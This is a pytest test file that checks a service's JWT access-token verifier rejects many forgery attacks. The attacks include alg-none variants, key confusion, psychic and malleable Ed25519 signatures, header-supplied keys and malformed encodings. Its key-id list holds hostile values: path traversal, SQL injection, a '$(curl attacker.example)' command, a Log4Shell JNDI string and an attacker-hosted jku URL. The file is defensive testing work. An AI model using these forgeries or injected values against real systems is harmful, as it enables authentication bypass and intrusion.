"""Attacks on access tokens. Each is rejected with the same detail and no other error."""

from __future__ import annotations

import base64
import functools
import hashlib
import hmac
import itertools
import json
import math
import socket
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING, Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives.asymmetric import ec, ed448, ed25519, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from cryptography.x509.oid import NameOID
from jwt.algorithms import OKPAlgorithm

from chalicelib.auth.credentials.derived_keys import DerivedKey
from tests.unit.auth.token_forger import (
    ADA,
    EVE,
    EXPIRED,
    INVALID,
    NOT_YET,
    NOW,
    TokenForger,
    base64url,
    decode_part,
    encode_part,
    make_access_tokens,
    make_key,
    rejection,
    sign_token,
    valid_claims,
    without_member,
)

if TYPE_CHECKING:
    from collections.abc import Callable

    from chalicelib.auth.sessions.access_tokens import AccessTokens

# The order of the base point of Ed25519.
L = 2**252 + 27742317777372353535851937790883648493
ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}


def shorten(value: object) -> str:
    return repr(value)[:30]


def test_token_forged_with_our_key_is_accepted(tokens: AccessTokens, forger: TokenForger) -> None:
    """So the rejections below are caused by the change each test makes."""
    assert tokens.verify(forger.sign()) == ADA


# ------------------------------------------------------------------------------------ Algorithms


SPELLINGS_OF_NONE = ["".join(each) for each in itertools.product("nN", "oO", "nN", "eE")]


@pytest.mark.parametrize("alg", [*SPELLINGS_OF_NONE, " none", "none ", "none\0", "", "\uff4eone"])
def test_alg_none_is_rejected(tokens: AccessTokens, forger: TokenForger, alg: str) -> None:
    unsigned = f"{encode_part(forger.valid_header(alg=alg))}.{encode_part(valid_claims())}."
    assert rejection(tokens, unsigned) == INVALID
    assert rejection(tokens, unsigned.rstrip(".")) == INVALID
    assert rejection(tokens, forger.sign(alg=alg)) == INVALID


@pytest.mark.parametrize("alg", [None, [], ["EdDSA"], {"EdDSA": 1}, {}, 0, 1, True, False, 1.5])
def test_alg_of_another_type_is_rejected(
    tokens: AccessTokens, forger: TokenForger, alg: Any
) -> None:
    assert rejection(tokens, forger.sign(alg=alg)) == INVALID


def test_missing_alg_is_rejected(tokens: AccessTokens, forger: TokenForger) -> None:
    assert (
        rejection(tokens, forger.sign_with(without_member(forger.valid_header(), "alg"))) == INVALID
    )


@pytest.mark.parametrize(
    "alg",
    [
        "eddsa",
        "EDDSA",
        "EdDSA ",
        "EdDSA\0",
        "Ed25519",
        "Ed448",
        "ES256",
        "ES256K",
        "ES512",
        "RS256",
        "RS512",
        "PS256",
        "HS256",
        "A128KW",
        "dir",
        "EdDSA,none",
    ],
)
def test_other_alg_with_our_signature_is_rejected(
    tokens: AccessTokens, forger: TokenForger, alg: str
) -> None:
    assert rejection(tokens, forger.sign(alg=alg)) == INVALID


def spellings_of_our_public_key(forger: TokenForger) -> dict[str, bytes]:
    public = forger.private.public_key()
    raw = public.public_bytes(Encoding.Raw, PublicFormat.Raw)
    pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    jwk = OKPAlgorithm.to_jwk(public, as_dict=True)
    published = {**jwk, "kid": forger.key.kid, "use": "sig", "alg": "EdDSA"}
    return {
        "raw": raw,
        "hex": raw.hex().encode(),
        "base64": base64.b64encode(raw),
        "base64url": base64.urlsafe_b64encode(raw),
        "x": base64url(raw).encode(),
        "PEM": pem,
        "PEM without its last newline": pem.rstrip(b"\n"),
        "PEM with CRLF": pem.replace(b"\n", b"\r\n"),
        "PEM without armour": b"".join(pem.splitlines()[1:-1]),
        "DER": public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        "OpenSSH": public.public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH),
        "JWK": json.dumps(jwk).encode(),
        "JWK in few characters": json.dumps(jwk, separators=(",", ":")).encode(),
        "JWK as published": json.dumps(published).encode(),
        "JWKS": json.dumps({"keys": [published]}).encode(),
        "key id": forger.key.kid.encode(),
        "nothing": b"",
        "a zero": b"\0",
        "zeros": bytes(32),
    }


@pytest.mark.parametrize("alg", list(HASHES))
def test_public_key_as_hmac_secret_is_rejected(
    tokens: AccessTokens, forger: TokenForger, alg: str
) -> None:
    for spelling, secret in spellings_of_our_public_key(forger).items():
        for said in (alg, "EdDSA"):
            header = forger.valid_header(alg=said)
            sign = functools.partial(hmac.digest, secret, digest=HASHES[alg])
            assert rejection(tokens, sign_token(sign, header, valid_claims())) == INVALID, spelling


@pytest.mark.parametrize("alg", ["RS256", "PS256", "EdDSA"])
def test_rsa_key_of_a_stranger_is_rejected(
    tokens: AccessTokens, forger: TokenForger, alg: str
) -> None:
    private = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    pss = padding.PSS(padding.MGF1(SHA256()), padding.PSS.DIGEST_LENGTH)
    scheme: Any = pss if alg == "PS256" else padding.PKCS1v15()

    def sign(text: bytes) -> bytes:
        return private.sign(text, scheme, SHA256())

    assert (
        rejection(tokens, sign_token(sign, forger.valid_header(alg=alg), valid_claims())) == INVALID
    )


@pytest.mark.parametrize("alg", ["ES256", "EdDSA"])
def test_ec_key_of_a_stranger_is_rejected(
    tokens: AccessTokens, forger: TokenForger, alg: str
) -> None:
    private = ec.generate_private_key(ec.SECP256R1())

    def sign(text: bytes) -> bytes:
        numbers = decode_dss_signature(private.sign(text, ec.ECDSA(SHA256())))
        return b"".join(number.to_bytes(32, "big") for number in numbers)

    assert (
        rejection(tokens, sign_token(sign, forger.valid_header(alg=alg), valid_claims())) == INVALID
    )


def fixed_signature(signature: bytes, text: bytes) -> bytes:
    return signature


def test_psychic_signature_is_rejected(tokens: AccessTokens, forger: TokenForger) -> None:
    """Java accepted a signature of zeros for any text (CVE-2022-21449)."""
    for alg in ("ES256", "EdDSA"):
        for signature in (bytes(64), b"\xff" * 64, b"\1" + bytes(63), bytes.fromhex("3006020100")):
            token = sign_token(
                functools.partial(fixed_signature, signature),
                forger.valid_header(alg=alg),
                valid_claims(),
            )
            assert rejection(tokens, token) == INVALID


def test_key_of_a_stranger_with_our_key_id_is_rejected(
    tokens: AccessTokens, forger: TokenForger, stranger: TokenForger
) -> None:
    assert rejection(tokens, stranger.sign(kid=forger.key.kid)) == INVALID


def test_key_of_a_stranger_is_rejected(tokens: AccessTokens, stranger: TokenForger) -> None:
    assert rejection(tokens, stranger.sign()) == INVALID


def test_ed448_key_is_rejected(tokens: AccessTokens, forger: TokenForger) -> None:
    private = ed448.Ed448PrivateKey.generate()
    assert (
        rejection(tokens, sign_token(private.sign, forger.valid_header(), valid_claims()))
        == INVALID
    )


def test_key_id_of_another_own_key_is_rejected(forger: TokenForger) -> None:
    other = make_key("another-of-ours")
    tokens = make_access_tokens(forger.key, other)
    assert tokens.verify(TokenForger(other).sign()) == ADA
    assert rejection(tokens, forger.sign(kid=other.kid)) == INVALID


def test_token_of_a_removed_key_is_rejected(forger: TokenForger) -> None:
    new = make_key("new")
    assert make_access_tokens(new, forger.key).verify(forger.sign()) == ADA
    assert rejection(make_access_tokens(new), forger.sign()) == INVALID
    assert rejection(make_access_tokens(new), forger.sign(kid="new")) == INVALID


# --------------------------------------------------------------------------------------- Headers


@pytest.mark.parametrize(
    "crit",
    [["x"], ["exp"], ["b64"], ["alg"], [], "exp", "", None, {}, {"x": 1}, 0, 1, True, [1], [["x"]]],
)
def test_crit_header_is_rejected(tokens: AccessTokens, forger: TokenForger, crit: Any) -> None:
    assert rejection(tokens, forger.sign(crit=crit, x=1)) == INVALID
    assert rejection(tokens, forger.sign_with(forger.valid_header(crit=crit, b64=True))) == INVALID


@pytest.mark.parametrize(
    "typ",
    [
        "JWT",
        "jwt",
        "at+JWT",
        "AT+JWT",
        "application/at+jwt",
        "at+jwt ",
        "at jwt",
        "at+jwt\0",
        "",
        "JOSE",
        "refresh+jwt",
        None,
        [],
        ["at+jwt"],
        {},
        {"at+jwt": 1},
        0,
        1,
        True,
        1.5,
    ],
)
def test_other_typ_is_rejected(tokens: AccessTokens, forger: TokenForger, typ: Any) -> None:
    assert rejection(tokens, forger.sign(typ=typ)) == INVALID


def test_missing_typ_is_rejected(tokens: AccessTokens, forger: TokenForger) -> None:
    assert (
        rejection(tokens, forger.sign_with(without_member(forger.valid_header(), "typ"))) == INVALID
    )


KEY_IDS: list[Any] = [
    "../../etc/passwd",
    "../../../../../../../../dev/null",
    "/proc/self/environ",
    "..\\..\\windows\\win.ini",
    "file:///dev/null",
    "https://attacker.example/key.pem",
    "' OR '1'='1",
    "x' UNION SELECT 'attacker-key'; --",
    "'; DROP TABLE keys; --",
    "the-first'--",
    "$(curl attacker.example)",
    "|/usr/bin/id",
    "{{7*7}}",
    "${jndi:ldap://attacker.example/x}",
    "\0",
    "the-first\0",
    "\0the-first",
    "the-first\n",
    " the-first",
    "the-first ",
    "THE-FIRST",
    "the-\u2010first",
    "the-first\u200b",
    "\ud800",
    "",
    " ",
    "*",
    "None",
    "null",
    "0",
    "__class__",
    "constructor",
    "-----BEGIN PUBLIC KEY-----",
    "x" * 2500,
    None,
    [],
    ["the-first"],
    [None],
    {},
    {"kid": "the-first"},
    {"$ne": ""},
    0,
    1,
    -1,
    10**400,
    1.5,
    math.nan,
    math.inf,
    True,
    False,
]


@pytest.mark.parametrize("kid", KEY_IDS, ids=shorten)
def test_malicious_key_id_is_rejected(
    tokens: AccessTokens, forger: TokenForger, stranger: TokenForger, kid: Any
) -> None:
    assert rejection(tokens, forger.sign(kid=kid)) == INVALID
    assert rejection(tokens, stranger.sign(kid=kid)) == INVALID
    empty = functools.partial(hmac.digest, b"", digest="sha256")
    header = forger.valid_header(kid=kid, alg="HS256")
    assert rejection(tokens, sign_token(empty, header, valid_claims())) == INVALID


def test_missing_key_id_is_rejected(tokens: AccessTokens, forger: TokenForger) -> None:
    assert (
        rejection(tokens, forger.sign_with(without_member(forger.valid_header(), "kid"))) == INVALID
    )


def certificate(private: ed25519.Ed25519PrivateKey) -> bytes:
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "hirelane")])
    today = datetime.now(UTC)
    return (
        x509.CertificateBuilder(name, name, private.public_key(), 1)
        .not_valid_before(today - timedelta(days=1))
        .not_valid_after(today + timedelta(days=1))
        .sign(private, None)
        .public_bytes(Encoding.DER)
    )


def headers_with_a_key(forger: TokenForger) -> dict[str, dict[str, Any]]:
    jwk = {**OKPAlgorithm.to_jwk(forger.private.public_key(), as_dict=True), "kid": forger.key.kid}
    der = certificate(forger.private)
    return {
        "jwk": {"jwk": jwk},
        "jwk as text": {"jwk": json.dumps(jwk)},
        "jwks": {"jwks": {"keys": [jwk]}},
        "jku": {"jku": "http://127.0.0.1:9/jwks.json"},
        "jku of a name": {"jku": "https://hirelane.example@attacker.example/jwks.json"},
        "jku of a file": {"jku": "file:///tmp/jwks.json"},
        "jku as data": {"jku": "data:application/json," + json.dumps({"keys": [jwk]})},
        "x5u": {"x5u": "http://127.0.0.1:9/x.pem"},
        "x5c": {"x5c": [base64.b64encode(der).decode()]},
        "x5t": {"x5t": base64url(hashlib.sha1(der, usedforsecurity=False).digest())},
        "x5t#S256": {"x5t#S256": base64url(hashlib.sha256(der).digest())},
        "epk": {"epk": jwk},
    }


@pytest.mark.parametrize(
    "way", list(headers_with_a_key(TokenForger(make_key("for the names of the ways"))))
)
def test_key_in_the_header_is_ignored(
    tokens: AccessTokens,
    forger: TokenForger,
    stranger: TokenForger,
    way: str,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    asked: list[Any] = []
    monkeypatch.setattr(socket, "getaddrinfo", lambda *which, **_: asked.append(which))
    monkeypatch.setattr(socket.socket, "connect", lambda _, where: asked.append(where))
    brought = headers_with_a_key(stranger)[way]
    assert rejection(tokens, stranger.sign(**brought)) == INVALID
    assert rejection(tokens, stranger.sign(**brought, kid=forger.key.kid)) == INVALID
    assert rejection(tokens, stranger.sign_with(stranger.valid_header(kid="") | brought)) == INVALID
    assert tokens.verify(forger.sign(**brought)) == ADA, "nothing reads it"
    assert asked == []


def test_unencoded_payload_is_rejected(tokens: AccessTokens, forger: TokenForger) -> None:
    """RFC 7797, with its own signature and with the signature of a usual token."""
    plain = json.dumps(valid_claims()).encode()
    said: list[dict[str, Any]] = [{"crit": ["b64"]}, {}, {"crit": []}, {"crit": ["b64", "exp"]}]
    for crit in said:
        part = encode_part(forger.valid_header(b64=False, **crit))
        signature = base64url(forger.private.sign(part.encode() + b"." + plain))
        for payload in ("", base64url(plain), plain.decode()):
            assert rejection(tokens, f"{part}.{payload}.{signature}") == INVALID
        assert rejection(tokens, forger.sign(b64=False, **crit)) == INVALID


def test_detached_payload_is_rejected(tokens: AccessTokens, forger: TokenForger) -> None:
    header, _, signature = forger.sign().split(".")
    assert rejection(tokens, f"{header}..{signature}") == INVALID
    assert rejection(tokens, forger.sign(b"")) == INVALID


# ---------------------------------------------------------------------------------------- Claims


CLAIMS = ["iss", "aud", "sub", "role", "sid", "jti", "iat", "nbf", "exp"]
NO_TEXT: list[Any] = [
    None,
    [],
    ["x"],
    {},
    {"x": "x"},
    0,
    1,
    -1,
    10**300,
    1.5,
    math.nan,
    True,
    False,
]
NO_TIME: list[Any] = [
    None,
    [],
    [NOW],
    {},
    {"$gt": 0},
    "",
    "soon",
    str(NOW),
    "१८००००००००",
    "2027-01-15T08:00:00Z",
    NOW + 0.5,
    float(NOW),
    math.nan,
    math.inf,
    -math.inf,
    True,
    False,
]


@pytest.mark.parametrize("claim", CLAIMS)
def test_missing_claim_is_rejected(tokens: AccessTokens, forger: TokenForger, claim: str) -> None:
    assert rejection(tokens, forger.sign(without_member(valid_claims(), claim))) == INVALID


@pytest.mark.parametrize("wrong", NO_TEXT, ids=shorten)
@pytest.mark.parametrize("claim", ["iss", "aud", "sub", "role", "sid", "jti"])
def test_claim_of_another_type_is_rejected(
    tokens: AccessTokens, forger: TokenForger, claim: str, wrong: Any
) -> None:
    assert rejection(tokens, forger.sign(valid_claims(**{claim: wrong}))) == INVALID


@pytest.mark.parametrize("claim", ["iss", "sub", "role", "sid", "jti"])
def test_claim_in_a_list_is_rejected(tokens: AccessTokens, forger: TokenForger, claim: str) -> None:
    right = valid_claims()[claim]
    assert rejection(tokens, forger.sign(valid_claims(**{claim: [right]}))) == INVALID


@pytest.mark.parametrize("wrong", NO_TIME, ids=repr)
@pytest.mark.parametrize("claim", ["exp", "nbf", "iat"])
def test_time_of_another_type_is_rejected(
    tokens: AccessTokens, forger: TokenForger, claim: str, wrong: Any
) -> None:
    assert rejection(tokens, forger.sign(valid_claims(**{claim: wrong}))) == INVALID


def test_non_ascii_digits_are_rejected(tokens: AccessTokens, forger: TokenForger) -> None:
    text = json.dumps(valid_claims()).replace(f'"exp": {NOW + 60}', '"exp": १८००००००६०')
    assert rejection(tokens, forger.sign(text.encode())) == INVALID


@pytest.mark.parametrize(
    "exp", [NOW, NOW - 1, NOW - 600, 0, -1, -(10**300), -(10**1000)], ids=shorten
)
def test_past_exp_is_expired(tokens: AccessTokens, forger: TokenForger, exp: int) -> None:
    assert rejection(tokens, forger.sign(valid_claims(exp=exp))) == EXPIRED


@pytest.mark.parametrize("nbf", [NOW + 6, NOW + 600, 10**300, 10**1000], ids=shorten)
def test_future_nbf_is_not_valid_yet(tokens: AccessTokens, forger: TokenForger, nbf: int) -> None:
    assert rejection(tokens, forger.sign(valid_claims(nbf=nbf))) == NOT_YET


@pytest.mark.parametrize("exp", [2**31, 2**63, 2**64, 10**300, 10**1000], ids=shorten)
def test_far_exp_is_rejected(tokens: AccessTokens, forger: TokenForger, exp: int) -> None:
    assert rejection(tokens, forger.sign(valid_claims(exp=exp))) == INVALID


def test_lifetime_over_ten_minutes_is_rejected(tokens: AccessTokens, forger: TokenForger) -> None:
    assert tokens.verify(forger.sign(valid_claims(iat=NOW, exp=NOW + 600))) == ADA
    assert rejection(tokens, forger.sign(valid_claims(iat=NOW, exp=NOW + 601))) == INVALID


@pytest.mark.parametrize(
    ("claim", "wrong"),
    [
        ("iss", "someone"),
        ("iss", "Hirelane"),
        ("iss", "hirelane "),
        ("iss", "hirelane\0"),
        ("iss", "hirelan"),
        ("iss", ""),
        ("aud", "someone"),
        ("aud", "hirelane"),
        ("aud", "hirelane-api "),
        ("aud", "HIRELANE-API"),
        ("aud", "hirelane-ap"),
        ("aud", ""),
        ("role", "root"),
        ("role", "Admin"),
        ("role", "ADMIN"),
        ("role", "admin "),
        ("role", "admin\0"),
        ("role", "candidate,admin"),
        ("role", ""),
    ],
)
def test_wrong_claim_value_is_rejected(
    tokens: AccessTokens, forger: TokenForger, claim: str, wrong: str
) -> None:
    assert rejection(tokens, forger.sign(valid_claims(**{claim: wrong}))) == INVALID


@pytest.mark.parametrize(
    "aud",
    [["hirelane-api"], ["hirelane-api", "x"], ["x", "hirelane-api"], {"hirelane-api": 1}],
    ids=str,
)
def test_audience_list_is_rejected(tokens: AccessTokens, forger: TokenForger, aud: Any) -> None:
    assert rejection(tokens, forger.sign(valid_claims(aud=aud))) == INVALID


@pytest.mark.parametrize(
    "members",
    [
        b'"role": "admin"',
        b'"sub": "someone"',
        b'"exp": 9999999999',
        b'"role": "admin", "role": "candidate"',
    ],
)
def test_duplicate_claims_under_our_signature_are_rejected(
    tokens: AccessTokens, forger: TokenForger, members: bytes
) -> None:
    """The duplicates are inserted before or after the signed claims."""
    header, payload, signature = forger.sign().split(".")
    plain = decode_part(payload)
    for changed in (b"{" + members + b", " + plain[1:], plain[:-1] + b", " + members + b"}"):
        assert json.loads(changed)
        assert rejection(tokens, f"{header}.{encode_part(changed)}.{signature}") == INVALID


@pytest.mark.parametrize(
    ("last", "detail"),
    [
        (b'"exp": 1', EXPIRED),
        (b'"nbf": 9999999999', NOT_YET),
        (b'"iss": "x"', INVALID),
        (b'"aud": ["hirelane-api"]', INVALID),
        (b'"role": "root"', INVALID),
    ],
)
def test_last_of_duplicate_claims_is_checked(
    tokens: AccessTokens, forger: TokenForger, last: bytes, detail: str
) -> None:
    plain = json.dumps(valid_claims()).encode()
    assert rejection(tokens, forger.sign(plain[:-1] + b", " + last + b"}")) == detail


def test_duplicate_headers_are_rejected(
    tokens: AccessTokens, forger: TokenForger, stranger: TokenForger
) -> None:
    plain = json.dumps(forger.valid_header()).encode()
    for members in (b'"alg": "none"', b'"kid": "of-a-stranger"', b'"typ": "JWT"', b'"crit": []'):
        assert rejection(tokens, forger.sign_with(plain[:-1] + b", " + members + b"}")) == INVALID
        assert rejection(tokens, stranger.sign_with(b"{" + members + b", " + plain[1:])) == INVALID


@pytest.mark.parametrize(
    "payload",
    [
        b"",
        b"null",
        b"[]",
        b"1",
        b'"x"',
        b"true",
        b"NaN",
        b"{",
        b"{}",
        b"{}{}",
        b"\xff\xfe",
        b"\0",
        b"[{}]",
        b"{'a': 1}",
        b'{"a": 1,}',
        b'{"a": 1} // x',
        b'{"exp": 1e999}',
        b"\xef\xbb\xbf",
    ],
)
def test_payload_or_header_without_object_is_rejected(
    tokens: AccessTokens, forger: TokenForger, payload: bytes
) -> None:
    assert rejection(tokens, forger.sign(payload)) == INVALID
    assert rejection(tokens, forger.sign_with(payload)) == INVALID


# --------------------------------------------------------------------------------------- Nesting


NESTED = {
    "lists": lambda deep: b"[" * deep + b"]" * deep,
    "objects": lambda deep: b'{"a":' * (deep // 3) + b"1" + b"}" * (deep // 3),
    "lists without an end": lambda deep: b"[" * deep * 2,
    "objects without an end": lambda deep: b'{"a":' * (deep * 2 // 5),
}


@pytest.mark.parametrize("kind", list(NESTED))
@pytest.mark.parametrize("deep", [600, 1200, 100_000])
def test_deep_nesting_is_rejected(
    tokens: AccessTokens, forger: TokenForger, kind: str, deep: int
) -> None:
    """The first two depths fit into the longest token, the last one does not."""
    nested = NESTED[kind](deep)
    short_enough = deep < 100_000
    in_header = json.dumps(forger.valid_header()).encode()[:-1] + b', "kid": ' + nested + b"}"
    in_claims = json.dumps(valid_claims()).encode()[:-1] + b', "sub": ' + nested + b"}"
    forged = [
        forger.sign(nested),
        forger.sign_with(nested),
        forger.sign_with(nested, b""),
        forger.sign_with(in_header, b""),
        f"{encode_part(nested)}..",
    ]
    for token in forged:
        assert (len(token) <= 4096) == short_enough
        assert rejection(tokens, token) == INVALID
    assert rejection(tokens, forger.sign(in_claims)) == INVALID


# ---------------------------------------------------------------------------------------- Shapes


def test_refresh_token_is_rejected(tokens: AccessTokens) -> None:
    key = DerivedKey("the secret of purposes", "refresh token")
    text = f"{ADA.session_id}.1"
    assert rejection(tokens, f"{text}.{key.sign(text + 'salt')}") == INVALID
    assert rejection(tokens, key.token(text)) == INVALID


@pytest.mark.parametrize(
    "junk",
    [
        "",
        ".",
        "..",
        "...",
        "....",
        "x",
        "a.b",
        "a.b.c",
        "a.b.c.d.e",
        "null.null.null",
        "bnVsbA.bnVsbA.bnVsbA",
        "e30.e30.e30",
        "e30.e30.",
        "W10.W10.W10",
        "é.é.é",
        "\uff45\uff13\uff10.\uff45\uff13\uff10.\uff45\uff13\uff10",
        "\0",
        "\0.\0.\0",
        "\ud800",
        "\ud800.\ud800.\ud800",
        "🔑.🔑.🔑",
        "%00.%00.%00",
        "=.=.=",
        "==.==.==",
        "undefined",
        "A" * 4096,
        "A" * 4097,
        "A" * 1_000_000,
        "." * 4096,
        "🔑" * 4096,
    ],
    ids=shorten,
)
def test_junk_is_rejected(tokens: AccessTokens, junk: str) -> None:
    assert rejection(tokens, junk) == INVALID


@pytest.mark.parametrize(
    "space", [" ", "\t", "\n", "\r\n", "\0", "\x0b", "\x1f", "\x85", "\xa0", "\u2003", "\ufeff"]
)
def test_white_space_is_rejected(tokens: AccessTokens, forger: TokenForger, space: str) -> None:
    token = forger.sign()
    places = [0, 1, token.index("."), token.index(".") + 1, token.rindex("."), len(token)]
    for at in [*places, len(token) - 1]:
        assert rejection(tokens, token[:at] + space + token[at:]) == INVALID


@pytest.mark.parametrize("padding", ["=", "==", "===", "====", "%3D", "%3D%3D"])
def test_padding_is_rejected(tokens: AccessTokens, forger: TokenForger, padding: str) -> None:
    parts = forger.sign().split(".")
    for which in range(3):
        padded = [part + padding * (at == which) for at, part in enumerate(parts)]
        assert rejection(tokens, ".".join(padded)) == INVALID
    assert rejection(tokens, padding + ".".join(parts)) == INVALID


def test_correct_padding_is_rejected(tokens: AccessTokens, forger: TokenForger) -> None:
    padded = [part + "=" * (-len(part) % 4) for part in forger.sign().split(".")]
    assert rejection(tokens, ".".join(padded)) == INVALID
    text = ".".join(padded[:2])
    signature = base64url(forger.private.sign(text.encode()))
    assert text.count("=") > 0
    assert rejection(tokens, f"{text}.{signature}") == INVALID


def test_standard_base64_alphabet_is_rejected(tokens: AccessTokens, forger: TokenForger) -> None:
    """Try tokens until a signature contains "-" or "_"."""
    for number in range(1000):
        token = forger.sign(valid_claims(jti=str(number)))
        other = token.replace("-", "+").replace("_", "/")
        if other != token:
            assert rejection(tokens, other) == INVALID
            return
    raise AssertionError


def test_unused_bits_of_base64_are_rejected(tokens: AccessTokens, forger: TokenForger) -> None:
    parts = forger.sign().split(".")
    alike = 0
    for which, part in enumerate(parts):
        for last in ALPHABET:
            changed = part[:-1] + last
            if changed == part or decode_part(changed) != decode_part(part):
                continue
            alike += 1
            token = ".".join([*parts[:which], changed, *parts[which + 1 :]])
            assert rejection(tokens, token) == INVALID
    assert alike >= 15


@pytest.mark.parametrize(
    "other", ["\u0410", "\uff21", "\uff41", "\u0430", "\uff11", "\u0967", "\u0130"]
)
def test_lookalike_characters_are_rejected(
    tokens: AccessTokens, forger: TokenForger, other: str
) -> None:
    token = forger.sign()
    for at in (0, 5, token.index(".") + 3, len(token) - 1):
        assert rejection(tokens, token[:at] + other + token[at + 1 :]) == INVALID


def test_wrong_number_of_parts_is_rejected(tokens: AccessTokens, forger: TokenForger) -> None:
    token = forger.sign()
    header, payload, signature = token.split(".")
    for changed in (
        f".{token}",
        f"{token}.",
        f"{token}..",
        f"{header}..{payload}.{signature}",
        f"{header}.{payload}..{signature}",
        f"{header}.{payload}",
        f"{header}.{signature}",
        f"{payload}.{header}.{signature}",
        f"{signature}.{payload}.{header}",
        f"{header}{payload}{signature}",
        f"{token}.{signature}",
        f"{header}.{token}",
        f"{token}.{token}",
        f"{token},{token}",
        token.replace(".", "。"),
        token.replace(".", "%2E"),
    ):
        assert rejection(tokens, changed) == INVALID


def test_json_serialization_is_rejected(tokens: AccessTokens, forger: TokenForger) -> None:
    header, payload, signature = forger.sign().split(".")
    flat = {"protected": header, "payload": payload, "signature": signature}
    assert rejection(tokens, json.dumps(flat)) == INVALID


@pytest.mark.parametrize("alg", ["dir", "RSA-OAEP", "PBES2-HS256+A128KW"])
def test_encrypted_token_is_rejected(tokens: AccessTokens, forger: TokenForger, alg: str) -> None:
    header = encode_part(forger.valid_header(alg=alg, enc="A256GCM", p2c=2**31, zip="DEF"))
    assert rejection(tokens, f"{header}.a2V5.aXY.dGV4dA.dGFn") == INVALID
    assert rejection(tokens, f"{header}..aXY.dGV4dA.dGFn") == INVALID
    nested = base64url(forger.sign().encode())
    assert rejection(tokens, f"{header}.a2V5.aXY.{nested}.dGFn") == INVALID


def test_nested_token_is_rejected(
    tokens: AccessTokens, forger: TokenForger, stranger: TokenForger
) -> None:
    inner = forger.sign().encode()
    assert rejection(tokens, stranger.sign(inner, cty="JWT")) == INVALID
    assert rejection(tokens, forger.sign(inner, cty="JWT")) == INVALID


# ------------------------------------------------------------------------------------ Signatures


def test_other_payload_under_our_signature_is_rejected(
    tokens: AccessTokens, forger: TokenForger
) -> None:
    header, _, signature = forger.sign().split(".")
    for claims in (
        valid_claims(role="admin"),
        valid_claims(sub=EVE.account_id),
        valid_claims(exp=NOW + 10**6),
        valid_claims(role="recruiter"),
    ):
        assert rejection(tokens, f"{header}.{encode_part(claims)}.{signature}") == INVALID


def test_reordered_claims_under_our_signature_are_rejected(
    tokens: AccessTokens, forger: TokenForger
) -> None:
    header, _, signature = forger.sign().split(".")
    turned = dict(reversed(valid_claims().items()))
    assert turned == valid_claims()
    assert rejection(tokens, f"{header}.{encode_part(turned)}.{signature}") == INVALID


def change_signature(token: str, change: Callable[[bytes], bytes]) -> str:
    text, _, signature = token.rpartition(".")
    return f"{text}.{base64url(change(decode_part(signature)))}"


@pytest.mark.parametrize("times", range(1, 16))
def test_signature_with_unreduced_scalar_is_rejected(
    tokens: AccessTokens, forger: TokenForger, times: int
) -> None:
    """S + L equals S modulo L, so a lenient verifier would accept it as a second signature."""

    def add(signature: bytes) -> bytes:
        number = int.from_bytes(signature[32:], "little") + times * L
        return signature[:32] + (number % 2**256).to_bytes(32, "little")

    token = forger.sign()
    assert rejection(tokens, change_signature(token, add)) == INVALID


def test_signature_with_negated_scalar_is_rejected(
    tokens: AccessTokens, forger: TokenForger
) -> None:
    def negate(signature: bytes) -> bytes:
        number = -int.from_bytes(signature[32:], "little") % L
        return signature[:31] + bytes([signature[31] ^ 0x80]) + number.to_bytes(32, "little")

    assert rejection(tokens, change_signature(forger.sign(), negate)) == INVALID


def test_flipped_bit_of_a_signature_is_rejected(tokens: AccessTokens, forger: TokenForger) -> None:
    text, _, signature = forger.sign().rpartition(".")
    number = int.from_bytes(decode_part(signature), "big")
    for bit in range(512):
        flipped = (number ^ (1 << bit)).to_bytes(64, "big")
        assert rejection(tokens, f"{text}.{base64url(flipped)}") == INVALID


def test_truncated_signature_is_rejected(tokens: AccessTokens, forger: TokenForger) -> None:
    text, _, signature = forger.sign().rpartition(".")
    whole = decode_part(signature)
    for length in range(64):
        assert rejection(tokens, f"{text}.{base64url(whole[:length])}") == INVALID
        assert rejection(tokens, f"{text}.{base64url(whole[64 - length :])}") == INVALID


def test_extended_signature_is_rejected(tokens: AccessTokens, forger: TokenForger) -> None:
    text, _, signature = forger.sign().rpartition(".")
    whole = decode_part(signature)
    for more in (b"\0", b"\1", bytes(32), bytes(64), whole):
        assert rejection(tokens, f"{text}.{base64url(whole + more)}") == INVALID
        assert rejection(tokens, f"{text}.{base64url(more + whole)}") == INVALID


def test_parts_of_two_tokens_are_rejected(tokens: AccessTokens, forger: TokenForger) -> None:
    adas = forger.sign().split(".")
    eves = forger.sign(valid_claims(sub=EVE.account_id, role="admin", sid=EVE.session_id)).split(
        "."
    )
    assert tokens.verify(".".join(eves)) == EVE
    for which in range(1, 3):
        mixed = [*adas[:which], eves[which], *adas[which + 1 :]]
        assert rejection(tokens, ".".join(mixed)) == INVALID
